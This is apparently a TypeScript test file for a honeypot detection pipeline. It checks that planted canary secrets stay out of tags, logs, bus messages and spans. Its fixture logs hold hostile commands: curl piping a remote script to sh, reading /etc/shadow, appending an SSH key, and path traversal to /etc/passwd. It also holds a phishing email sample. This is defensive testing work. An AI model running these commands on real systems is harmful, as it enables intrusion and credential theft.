import { createHash } from "node:crypto";
import { fileURLToPath } from "node:url";
import { InMemorySpanExporter, SimpleSpanProcessor, TracerProvider } from "@opentelemetry/sdk-trace";
import type { EventKind } from "@tyr/contract";
import { pino } from "pino";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { createCollect, type Collect } from "#collect";
import { createBus, createTopicBus } from "#platform/bus";
import { systemClock } from "#platform/clock";
import { silentLogger } from "#platform/log";
import { openTestDatabase, type TestDatabase } from "#platform/testing";
import { useTracer } from "#platform/trace";
import { EVIDENCE_KEYS } from "./evidence.ts";
import { LiftWorker } from "./lift/lift-worker.ts";
import { allLifters } from "./lift/lifters.ts";
import { readRuleFiles } from "./rule-files.ts";
import { buildRulePack } from "./rule-pack.ts";
import { storeLines } from "./testing/stored-log.ts";
import { DetectWorker } from "./worker.ts";

/** Each stands for something that must be found nowhere behind the events. */
const PLANTED = {
  password: "pw-c4n4ry-1",
  commandSecret: "cmd-c4n4ry-2",
  urlToken: "url-c4n4ry-3",
  headerValue: "hdr-c4n4ry-4",
  recipient: "rcpt-c4n4ry-5",
  body: "body-c4n4ry-6",
  subject: "subj-c4n4ry-7",
  fileContent: "file-c4n4ry-8",
  fileName: "name-c4n4ry-9",
  mailAccount: "acct-c4n4ry-10",
  typed: "typed-c4n4ry-11",
} as const;

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const cowrie = (eventid: string, more: Readonly<Record<string, unknown>>): string =>
  JSON.stringify({
    eventid: `cowrie.${eventid}`,
    timestamp: "2026-02-01T10:00:00.000000Z",
    src_ip: "203.0.113.7",
    session: "a1",
    sensor: "decoy",
    ...more,
  });
const MESSAGE = [
  `Subject: ${PLANTED.subject} urgent wire transfer`,
  `From: "PayPal Service" <no-reply@pay-pal.example>`,
  `X-Mailer: ${PLANTED.headerValue}`,
  "Content-Type: text/html",
  "",
  `<a href="http://203.0.113.9/login?${PLANTED.urlToken}">${PLANTED.body}</a>`,
].join("\r\n");

const LINES = [
  ...Array.from({ length: 12 }, () => cowrie("login.failed", { username: "root", password: PLANTED.password })),
  cowrie("login.success", { username: `${PLANTED.mailAccount}@corp.example`, password: PLANTED.password }),
  cowrie("command.input", {
    input: `curl -u admin:${PLANTED.commandSecret} https://198.51.100.9/x.sh?${PLANTED.urlToken} | sh; cat /etc/shadow`,
  }),
  cowrie("command.input", {
    input: `echo ${PLANTED.fileContent} >> ~/.ssh/authorized_keys; mysql -p${PLANTED.password}`,
  }),
  JSON.stringify({
    timestamp: "2026-02-01T10:00:05Z",
    event_type: "file_captured",
    src_ip: "203.0.113.7",
    orig_path: `/srv/${PLANTED.fileName}.jpg`,
    prefix: base64(`MZ ${PLANTED.fileContent}`),
    size: 16,
  }),
  JSON.stringify({
    topic: "canary.tok_43.triggered",
    timestamp: "2026-02-01T10:00:06Z",
    src_ip: "203.0.113.7",
    token_type: "http",
    user_agent: PLANTED.headerValue,
    request_path: `/c/y?${PLANTED.urlToken}`,
  }),
  `203.0.113.7 - - [01/Feb/2026:10:00:01 +0000] "GET /.env?token=${PLANTED.urlToken} HTTP/1.1" 404 153 "http://a/?${PLANTED.urlToken}" "sqlmap ${PLANTED.headerValue}"`,
  `203.0.113.7 - - [01/Feb/2026:10:00:02 +0000] "GET /../../etc/passwd?${PLANTED.urlToken} HTTP/1.1" 200 153 "-" "Nikto ${PLANTED.headerValue}"`,
  ...Array.from(
    { length: 6 },
    (_, second) =>
      `203.0.113.7 - - [01/Feb/2026:10:01:0${second} +0000] "GET /reset/${PLANTED.urlToken} HTTP/1.1" 401 153 "-" "Mozilla/5.0"`,
  ),
  JSON.stringify({
    timestamp: "2026-02-01T10:00:03Z",
    event_type: "message_stored",
    src_ip: "203.0.113.7",
    server_domain: "mail.decoy.example",
    rcpt_to: [`${PLANTED.recipient}@victim.example`],
    raw_message: base64(MESSAGE),
    attachments: [{ name: `${PLANTED.fileName}.docm`, sha256: "ab".repeat(32), macro: true }],
  }),
  JSON.stringify({
    topic: "canary.tok_42.triggered",
    timestamp: "2026-02-01T10:00:04Z",
    src_ip: "203.0.113.7",
    token_type: "fingerprint_html",
    user_agent: PLANTED.headerValue,
    headers: { cookie: PLANTED.headerValue },
    request_path: `/c/x?${PLANTED.urlToken}`,
    fingerprint: { nav: { webdriver: true, userAgent: PLANTED.headerValue, platform: "Win32" }, scr: { w: 1 }, tz: {} },
  }),
  JSON.stringify({
    rec: "r1",
    host: "web1",
    user: "alice",
    id: 1,
    pos: 0,
    time: 1_769_940_000,
    timing: `${"+50<1".repeat(600)}>9`,
    in_txt: PLANTED.typed,
    out_txt: PLANTED.typed,
    src_ip: "203.0.113.7",
  }),
];

/** Each matches all of its kind, and asks for every key that kind declares. */
const CATEGORIES = {
  command: "command",
  auth_attempt: "authentication",
  http_request: "webserver",
  email: "email",
  canary: "canary",
  canary_fingerprint: "canary_fingerprint",
  payload: "payload",
} as const satisfies Partial<Record<EventKind, string>>;
const GREEDY = Object.entries(CATEGORIES).map(([kind, category], index) => ({
  path: `${kind}.yml`,
  text: `title: Greedy ${kind}
id: 00000000-0000-4000-8000-${String(index).padStart(12, "0")}
logsource: { category: ${category} }
tags: [attack.credential-access, attack.t1110]
tyr: { confidence: 0.9, evidence: [${EVIDENCE_KEYS[kind as EventKind].join(", ")}], phrase: did something }
detection: { selection: { source.ip|exists: true }, condition: selection }
`,
}));

let database: TestDatabase;
beforeAll(async () => void (database = await openTestDatabase("pglite")));
afterAll(async () => await database[Symbol.asyncDispose]());
afterEach(() => void useTracer(undefined));

/** A header of Cowrie's recordings and what came with it: input, as its direction says. */
function ttyWrite(typed: string): Buffer {
  const header = Buffer.alloc(24);
  for (const [at, value] of [3, 0, typed.length, 1, 1_769_940_000, 5].entries()) header.writeInt32LE(value, at * 4);
  return Buffer.concat([header, Buffer.from(typed)]);
}
const TTY_OPEN = Buffer.from([1, ...Array.from({ length: 23 }, () => 0)]);
const CAST = [
  '{"version": 2, "width": 80, "height": 24}',
  JSON.stringify([0.5, "i", PLANTED.typed]),
  JSON.stringify([0.6, "o", PLANTED.typed]),
].join("\n");
const BY = { actor: { kind: "system", id: "test", name: "test" }, requestId: null } as const;

async function openCollect(): Promise<Collect> {
  const deps = { database: database.db, clock: systemClock, bus: createBus(systemClock), log: silentLogger };
  return createCollect({ ...deps, intakeBytesMax: 1024 * 1024 });
}

test("recordings of terminals sent as they are leave nothing that was typed: not in events, not in quarantine, not in the log", async () => {
  await using collect = await openCollect();
  const created = await collect.sensors.create({ name: "terminals", kind: "ssh" }, BY);
  if (!created.ok) throw new Error(created.refusal.detail);
  const { sensor } = created.value;
  const bodies = {
    "of Cowrie": Buffer.concat([TTY_OPEN, ttyWrite(PLANTED.typed)]),
    "of Cowrie behind a line": Buffer.concat([Buffer.from("one\n"), ttyWrite(PLANTED.typed)]),
    "of asciinema": Buffer.from(CAST),
    "of asciinema behind a line": Buffer.from(`one\n${CAST}`),
    "of asciinema as elements": Buffer.from(`[${CAST.split("\n").join(",")}]`),
  };
  const told: unknown[] = [];
  for (const [what, body] of Object.entries(bodies)) {
    const result = await collect.intake({ sensor, by: BY, body });
    told.push([what, result.ok ? result.value.rejected : result.refusal.code]);
  }
  expect(told).toEqual([
    ["of Cowrie", "VALIDATION_FAILED"],
    ["of Cowrie behind a line", 2],
    ["of asciinema", "VALIDATION_FAILED"],
    ["of asciinema behind a line", 4],
    ["of asciinema as elements", 3],
  ]);
  const kept = await database.db.read.selectFrom("quarantine").selectAll().execute();
  const shown = kept.map((row) => ({ ...row, raw: Buffer.from(row.raw).toString("utf8") }));
  expect(shown).toHaveLength(9);
  const events = await database.db.read.selectFrom("event").selectAll().execute();
  expect(JSON.stringify([shown, events, await database.records()])).not.toContain(PLANTED.typed);
});

test("secrets, recipients, bodies, header values, file contents and URLs stay in the events: no tag, line of the log, message or span has one", async () => {
  const shipped = readRuleFiles(fileURLToPath(new URL("../../../../../rules", import.meta.url)));
  const rules = buildRulePack([...shipped.files, ...GREEDY]);
  expect(rules.rejected).toEqual([]);
  const { events } = await storeLines(database.db, LINES, "planted");
  for (const key of ["password", "commandSecret", "urlToken", "headerValue", "recipient", "fileName"] as const)
    expect([key, JSON.stringify(events).includes(PLANTED[key])]).toEqual([key, true]);
  // What somebody typed at a recorded terminal is not even there.
  const stored = await database.db.read.selectFrom("event").selectAll().execute();
  expect(stored.filter(({ action }) => action === "terminal.input")).toHaveLength(1);
  expect(JSON.stringify([events, stored])).not.toContain(PLANTED.typed);

  const told: string[] = [];
  const log = pino({ level: "trace" }, { write: (line: string) => void told.push(line) });
  const bus = createBus(systemClock);
  bus.subscribe((message) => void told.push(JSON.stringify(message)));
  const exporter = new InMemorySpanExporter();
  useTracer(new TracerProvider({ spanProcessors: [new SimpleSpanProcessor({ exporter })] }).getTracer("test"));
  const topics = createTopicBus({ clock: systemClock, log });
  topics.subscribe("ttp.>", (envelope) => void told.push(JSON.stringify(envelope)));
  const ignore = (): undefined => undefined;
  const quiet = { onLoss: ignore, onDetected: ignore, onRefused: ignore, onStep: ignore };
  const worker = new DetectWorker({ database: database.db, clock: systemClock, bus, topics, log, rules }, quiet);
  while (await worker.step());
  const keyed = (text: string): string => createHash("sha256").update(text).digest("hex");
  const lift = new LiftWorker({
    database: database.db,
    clock: systemClock,
    bus,
    topics,
    log,
    lifters: allLifters(keyed),
  });
  while (await lift.step());
  await lift.flush();

  const tags = await database.db.read.selectFrom("tag").selectAll().execute();
  const hours = await database.db.read.selectFrom("tag_hour").selectAll().execute();
  const kinds = new Set(tags.filter((tag) => tag.rule_id.startsWith("00000000")).map((tag) => tag.source_kind));
  expect([...kinds].toSorted()).toEqual(Object.keys(CATEGORIES).toSorted());
  expect(told.some((line) => line.includes("ttp.tagged"))).toBe(true);
  const spans = exporter.getFinishedSpans().map(({ name, attributes, events, links, status }) => {
    return { name, attributes, events, links, status };
  });
  const names = new Set(spans.map(({ name }) => name));
  for (const name of [
    "ttp.worker.tick",
    "ttp.eval",
    "ttp.eval.dispatch",
    "ttp.rule.fire",
    "ttp.tag.write",
    "ttp.bus.publish",
    "ttp.lifter.credential",
  ])
    expect([...names]).toContain(name);
  const detections = await database.db.read.selectFrom("detection").selectAll().execute();
  // The account is what people act upon, by its column and in the phrase: nowhere else, as everything else is nowhere.
  const unnamed = detections.map((one) => ({
    ...one,
    user_name: null,
    phrase: one.phrase?.replace(one.user_name ?? "", ""),
  }));
  const grouped = detections.filter(({ rule_title }) => rule_title === "The same page refused again and again");
  expect(grouped.map(({ group_key }) => group_key)).toEqual([
    { "source.ip": "203.0.113.7", "url.path": expect.stringMatching(/^keyed:[0-9a-f]{32}$/) },
  ]);
  const written = JSON.stringify([tags, hours, told, spans, unnamed, await database.records()]);
  for (const [what, text] of Object.entries(PLANTED)) expect([what, written.includes(text)]).toEqual([what, false]);
});
